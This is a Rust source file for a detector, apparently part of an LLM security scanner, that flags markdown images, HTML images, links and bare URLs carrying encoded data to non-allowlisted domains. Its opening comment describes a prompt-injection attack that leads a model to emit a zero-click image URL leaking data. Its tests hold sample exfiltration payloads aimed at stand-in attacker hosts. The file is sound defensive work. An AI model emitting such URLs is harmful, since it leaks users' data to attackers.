//! Exfiltration through rendered output: markdown images and links, HTML images, and bare URLs
//! whose path or query carries data, pointing at domains outside an allowlist.
//!
//! A markdown or HTML image is fetched by the client that renders the answer, with no click:
//! an injected instruction that makes the model emit `![](https://attacker.example/?q=<data>)`
//! leaks whatever it put in the URL. Links need a click; bare URLs need a click or an agent
//! that fetches them.
//!
//! Contract: only `http`/`https` URLs are considered; a URL whose host is an allowlisted
//! domain or a subdomain of one is never reported. "Carries data" means a query value or a
//! path segment of at least 16 characters that looks encoded (base64/hex/percent-encoded) or
//! has high entropy, or at least 4 query parameters with values, or text that another
//! detector would call PII (an `@` or a long digit run). Offsets span the URL (for images and
//! links, the whole markdown or HTML construct). A construct is looked for within 4 KiB of
//! its URL (the `[` of a markdown link on the same line, the closing `)` or `>`), so the
//! time a text takes grows with its length, not with its length times its URLs.

use llmtrail_core::{FindingCategory, Severity};

use crate::hit::{Detector, Hit, Input};

/// Finds URLs that carry data to domains outside the allowlist.
#[derive(Debug, Clone, Default)]
pub struct Exfiltration {
    allow: Vec<String>,
}

impl Exfiltration {
    /// Builds the detector; `allow` lists domains (lowercase, subdomains included) that may
    /// receive data, e.g. the company's own.
    #[must_use]
    pub fn new(allow: impl IntoIterator<Item = String>) -> Self {
        Exfiltration {
            allow: allow
                .into_iter()
                .map(|d| d.trim().trim_start_matches('.').to_ascii_lowercase())
                .filter(|d| !d.is_empty())
                .collect(),
        }
    }

    fn allowed(&self, host: &str) -> bool {
        self.allow.iter().any(|d| {
            host == d
                || (host.len() > d.len()
                    && host.ends_with(d.as_str())
                    && host.as_bytes()[host.len() - d.len() - 1] == b'.')
        })
    }
}

/// How a URL appears in the text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    MarkdownImage,
    MarkdownLink,
    HtmlImage,
    Bare,
}

/// A URL found in text: where it is, where the construct around it is, and how it appears.
struct Found {
    form: Form,
    start: usize,
    end: usize,
    url_start: usize,
    url_end: usize,
}

impl Detector for Exfiltration {
    fn name(&self) -> &'static str {
        "exfiltration"
    }

    fn inspect(&self, input: &Input<'_>, out: &mut Vec<Hit>) {
        let text = input.text;
        if !text.contains("http") {
            return;
        }
        for f in find_urls(text) {
            let url = &text[f.url_start..f.url_end];
            let Some(parts) = split_url(url) else {
                continue;
            };
            let host = parts.host.to_ascii_lowercase();
            if self.allowed(&host) {
                continue;
            }
            let data = carries_data(&parts);
            let (kind, severity, confidence) = match (f.form, data) {
                (Form::MarkdownImage, true) => ("markdown_image_exfiltration", Severity::High, 0.9),
                (Form::HtmlImage, true) => ("html_image_exfiltration", Severity::High, 0.9),
                (Form::MarkdownLink, true) => ("markdown_link_exfiltration", Severity::Medium, 0.7),
                (Form::Bare, true) => ("url_data_exfiltration", Severity::Medium, 0.6),
                (Form::MarkdownImage | Form::HtmlImage, false) => {
                    ("external_image", Severity::Low, 0.4)
                }
                _ => continue,
            };
            out.push(Hit {
                category: FindingCategory::Exfiltration,
                kind: kind.into(),
                severity,
                confidence,
                detector: "exfiltration",
                rule_id: format!("exfiltration.{kind}"),
                start: f.start,
                end: f.end,
                preview: preview(&host),
                owasp: "LLM02",
                atlas: "AML.T0057",
                decoded: None,
            });
        }
    }
}

fn preview(host: &str) -> String {
    let host: String = host.chars().take(80).collect();
    format!("https://{host}/…")
}

/// The parts of an http(s) URL that matter here.
struct UrlParts<'a> {
    host: &'a str,
    path: &'a str,
    query: &'a str,
}

fn split_url(url: &str) -> Option<UrlParts<'_>> {
    let rest = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
        .or_else(|| url.strip_prefix("HTTPS://"))
        .or_else(|| url.strip_prefix("HTTP://"))?;
    let end_auth = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = &rest[..end_auth];
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host_port.split(':').next().unwrap_or("")
    };
    if host.is_empty() {
        return None;
    }
    let after = &rest[end_auth..];
    let after = after.split('#').next().unwrap_or("");
    let (path, query) = after.split_once('?').unwrap_or((after, ""));
    Some(UrlParts { host, path, query })
}

/// Shannon entropy in bits per byte.
fn shannon(value: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in value.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = value.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// Decodes `%XX` escapes (invalid ones are kept as they are).
fn percent_decode(value: &str) -> String {
    let b = value.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && let (Some(h), Some(l)) = (
                char::from(b[i + 1]).to_digit(16),
                char::from(b[i + 2]).to_digit(16),
            )
        {
            out.push((h * 16 + l) as u8);
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn looks_encoded(raw: &str) -> bool {
    let decoded = percent_decode(raw);
    let value = decoded.as_str();
    if value.contains('@') && value.len() >= 6 {
        return true;
    }
    if value.len() < 16 {
        return false;
    }
    let b64 = value
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    let pct = value.matches('%').count() >= 3;
    let digits = value.bytes().filter(u8::is_ascii_digit).count();
    (b64 && shannon(value) >= 3.5) || pct || value.contains('@') || digits >= 9 || value.len() >= 64
}

fn carries_data(p: &UrlParts<'_>) -> bool {
    let values: Vec<&str> = p
        .query
        .split('&')
        .filter_map(|kv| kv.split_once('=').map(|(_, v)| v).or(Some(kv)))
        .filter(|v| !v.is_empty())
        .collect();
    if values.len() >= 4 || values.iter().any(|v| looks_encoded(v)) {
        return true;
    }
    p.path.split('/').any(looks_encoded)
}

/// Finds URLs with the construct around them, in order, without overlaps.
fn find_urls(text: &str) -> Vec<Found> {
    let bytes = text.as_bytes();
    let mut out: Vec<Found> = Vec::new();
    let mut at = 0;
    for sep in memchr::memmem::find_iter(bytes, b"://") {
        let Some(url_start) = scheme_start(bytes, sep) else {
            continue;
        };
        if url_start < at {
            // Inside the previous URL (`…?next=https://…`).
            continue;
        }
        let mut url_end = url_start;
        for (i, c) in text[url_start..].char_indices() {
            if c.is_whitespace() || matches!(c, ')' | '"' | '\'' | '<' | '>' | ']' | '`') {
                break;
            }
            url_end = url_start + i + c.len_utf8();
        }
        // Trailing punctuation belongs to the sentence, not the URL.
        while url_end > url_start && matches!(bytes[url_end - 1], b'.' | b',' | b';' | b':' | b'!')
        {
            url_end -= 1;
        }
        let (form, start, end) = construct(text, url_start, url_end);
        if out.last().is_none_or(|l| l.end <= start) {
            out.push(Found {
                form,
                start,
                end,
                url_start,
                url_end,
            });
        }
        at = url_end.max(url_start + 4);
    }
    out
}

/// Where `http://` or `https://` (all lowercase or all uppercase) starts, given the
/// position of its `://`.
fn scheme_start(bytes: &[u8], sep: usize) -> Option<usize> {
    [(5, b"https", b"HTTPS"), (4, b"http\0", b"HTTP\0")]
        .into_iter()
        .find_map(|(len, lower, upper)| {
            let start = sep.checked_sub(len)?;
            let scheme = &bytes[start..sep];
            (scheme == &lower[..len] || scheme == &upper[..len]).then_some(start)
        })
}

/// How far from a URL its markdown or HTML construct is looked for (on the same line for
/// markdown): the searches stay bounded, so a text of many URLs costs time in proportion
/// to its length.
const CONSTRUCT_REACH: usize = 4096;

/// The part of `text[from..]` within [`CONSTRUCT_REACH`] bytes, cut on a character boundary.
fn ahead(text: &str, from: usize) -> &str {
    let mut end = (from + CONSTRUCT_REACH).min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[from..end]
}

/// Decides how the URL at `url_start..url_end` appears and the span of that construct.
fn construct(text: &str, url_start: usize, url_end: usize) -> (Form, usize, usize) {
    let before = &text[..url_start];
    let trimmed = before.trim_end_matches([' ', '<']);
    if let Some(open) = trimmed.strip_suffix("](") {
        // Markdown: find the matching `[` (and a `!` before it for images) on the same line.
        let mut from = open.len().saturating_sub(CONSTRUCT_REACH);
        while !open.is_char_boundary(from) {
            from += 1;
        }
        if let Some(bracket) = open[from..].rfind('[').map(|i| from + i)
            && !open[bracket..].contains('\n')
        {
            let after = ahead(text, url_end);
            let close = after
                .find(')')
                .filter(|&i| !after[..i].contains('\n'))
                .map_or(url_end, |i| url_end + i + 1);
            if bracket > 0 && open.as_bytes()[bracket - 1] == b'!' {
                return (Form::MarkdownImage, bracket - 1, close);
            }
            return (Form::MarkdownLink, bracket, close);
        }
    }
    // HTML image: `<img … src="URL"`, the tag start on the same line within 512 bytes.
    let window_start = before.len().saturating_sub(512);
    let window_start = (window_start..=before.len())
        .find(|&i| before.is_char_boundary(i))
        .unwrap_or(before.len());
    let window = &before[window_start..];
    if let Some(tag) = window.to_ascii_lowercase().rfind("<img")
        && !window[tag..].contains('>')
        && window[tag..].to_ascii_lowercase().contains("src")
    {
        let close = ahead(text, url_end)
            .find('>')
            .map_or(url_end, |i| url_end + i + 1);
        return (Form::HtmlImage, window_start + tag, close);
    }
    (Form::Bare, url_start, url_end)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "tests fail loudly by design")]
mod tests {
    use super::*;
    use crate::hit::Role;

    fn scan(d: &Exfiltration, text: &str) -> Vec<Hit> {
        let mut out = Vec::new();
        d.inspect(
            &Input {
                text,
                role: Role::Assistant,
            },
            &mut out,
        );
        out
    }

    #[test]
    fn markdown_image_with_data_is_high() {
        let d = Exfiltration::new(["example.com".to_owned()]);
        let text = "Summary done. ![loading](https://attacker.test/p.png?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w) thanks";
        let hits = scan(&d, text);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].kind, "markdown_image_exfiltration");
        assert_eq!(hits[0].severity, Severity::High);
        assert_eq!(&text[hits[0].start..hits[0].start + 2], "![");
        assert!(text[..hits[0].end].ends_with(')'));
        assert!(!hits[0].preview.contains("c2st"));
    }

    #[test]
    fn allowlisted_domains_and_plain_links_pass() {
        let d = Exfiltration::new(["example.com".to_owned()]);
        assert!(
            scan(
                &d,
                "![chart](https://cdn.example.com/q?data=c2stcHJvai1hYmNkZWZnaGlqa2xt)"
            )
            .is_empty()
        );
        assert!(
            scan(
                &d,
                "See [the docs](https://docs.rs/regex/latest/regex/) for details."
            )
            .is_empty()
        );
        assert!(scan(&d, "Visit https://www.rust-lang.org/learn.").is_empty());
        // A lookalike domain is not the allowlisted one.
        assert_eq!(
            scan(
                &d,
                "![x](https://evilexample.com/?a=c2stcHJvai1hYmNkZWZnaGlqa2xt)"
            )
            .len(),
            1
        );
    }

    #[test]
    fn html_images_links_and_bare_urls() {
        let d = Exfiltration::default();
        let h = scan(
            &d,
            r#"<img width=1 src="https://x.test/t.gif?email=jane.doe%40corp.com&id=1">"#,
        );
        assert_eq!(h[0].kind, "html_image_exfiltration");
        let h = scan(
            &d,
            "[click](https://x.test/collect/ZXhmaWx0cmF0ZWQgZGF0YSBoZXJl)",
        );
        assert_eq!(h[0].kind, "markdown_link_exfiltration");
        let h = scan(&d, "fetch https://x.test/?a=1&b=2&c=3&d=4 now");
        assert_eq!(h[0].kind, "url_data_exfiltration");
        let h = scan(&d, "![logo](https://x.test/logo.png)");
        assert_eq!(h[0].kind, "external_image");
        assert_eq!(h[0].severity, Severity::Low);
    }

    #[test]
    fn constructs_are_looked_for_near_their_url() {
        let d = Exfiltration::new(Vec::<String>::new());
        let data = "?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w";
        // A `[` further back than the reach: the URL is reported bare.
        let far = format!(
            "![{}](https://attacker.test/p.png{data}) end",
            "x".repeat(5000)
        );
        let hits = scan(&d, &far);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].kind, "url_data_exfiltration");
        // Near: the whole image.
        let near = format!(
            "![{}](https://attacker.test/p.png{data}) end",
            "x".repeat(100)
        );
        let hits = scan(&d, &near);
        assert_eq!(hits[0].kind, "markdown_image_exfiltration");
        assert_eq!(hits[0].start, 0);
        // A URL inside another one's query is part of it, not a second finding.
        let nested = format!("see https://a.test/r{data}&next=https://b.test/x{data} now");
        assert_eq!(scan(&d, &nested).len(), 1);
    }

    #[test]
    fn many_urls_in_one_text_are_each_found() {
        let d = Exfiltration::new(Vec::<String>::new());
        let one = "](https://attacker.test/p.png?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w ";
        let text = one.repeat(2000);
        assert_eq!(scan(&d, &text).len(), 2000);
        let upper = "HTTPS://attacker.test/p?d=c2stcHJvai1hYmNkZWZnaGlqa2xtbm9w http://x ";
        assert_eq!(scan(&d, &upper.repeat(100)).len(), 100);
    }

    #[test]
    fn odd_text_does_not_panic() {
        let d = Exfiltration::default();
        for t in [
            "http",
            "https://",
            "![](http://",
            "<img src=https://é",
            "](https://[::1]:80/?x=é",
        ] {
            let _ = scan(&d, t);
        }
    }
}
